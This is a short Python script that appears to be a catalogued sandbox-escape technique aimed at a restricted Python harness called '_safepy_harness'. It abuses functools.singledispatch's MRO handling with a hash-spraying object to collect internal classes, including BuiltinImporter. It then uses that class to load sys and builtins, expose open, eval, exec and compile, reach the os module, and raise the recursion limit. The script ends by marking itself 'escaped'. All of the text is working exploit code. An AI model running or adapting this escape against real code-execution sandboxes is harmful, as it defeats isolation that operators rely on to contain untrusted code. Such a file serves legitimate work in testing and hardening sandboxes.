# technique: functools.singledispatch(f).dispatch(obj): _compose_mro builds bases=set(obj.__mro__) from a user iterable, then tests `sub not in bases` for every sub in object.__subclasses__(); user set entries with sprayed hashes (hash(type)=addr/16, anchored on hash(abc.ABCMeta)) get __eq__(self, sub) -> every stdlib class incl. _frozen_importlib.BuiltinImporter -> load_module('sys')
# expect: any
import functools, abc
got = []
base = hash(abc.ABCMeta)
class S:
    __slots__ = ("h",)
    def __hash__(self):
        return self.h
    def __eq__(self, other):
        got.append(other)
        return False
def spray():
    s = S()
    for h in range(base - 300000, base + 2000):
        s.h = h
        yield s
class P:
    __bases__ = (object,)
    @property
    def __mro__(self):
        return spray()
@functools.singledispatch
def f(x):
    return 0
f.dispatch(P())
print(sorted(g.__name__ for g in got))
BI = [g for g in got if g.__name__ == "BuiltinImporter"][0]
sys = BI.load_module("sys")
bi = BI.load_module("builtins")
print(sys, bi.open, bi.eval, getattr(bi, "exec"), bi.compile)
print("harness:", sys.modules["_safepy_harness"], sys.modules["os"])
print("getrecursionlimit", sys.getrecursionlimit(), "pid", sys.modules["posix"].getpid())
sys.setrecursionlimit(10**6)
print("set recursionlimit ->", sys.getrecursionlimit())
result = "escaped"
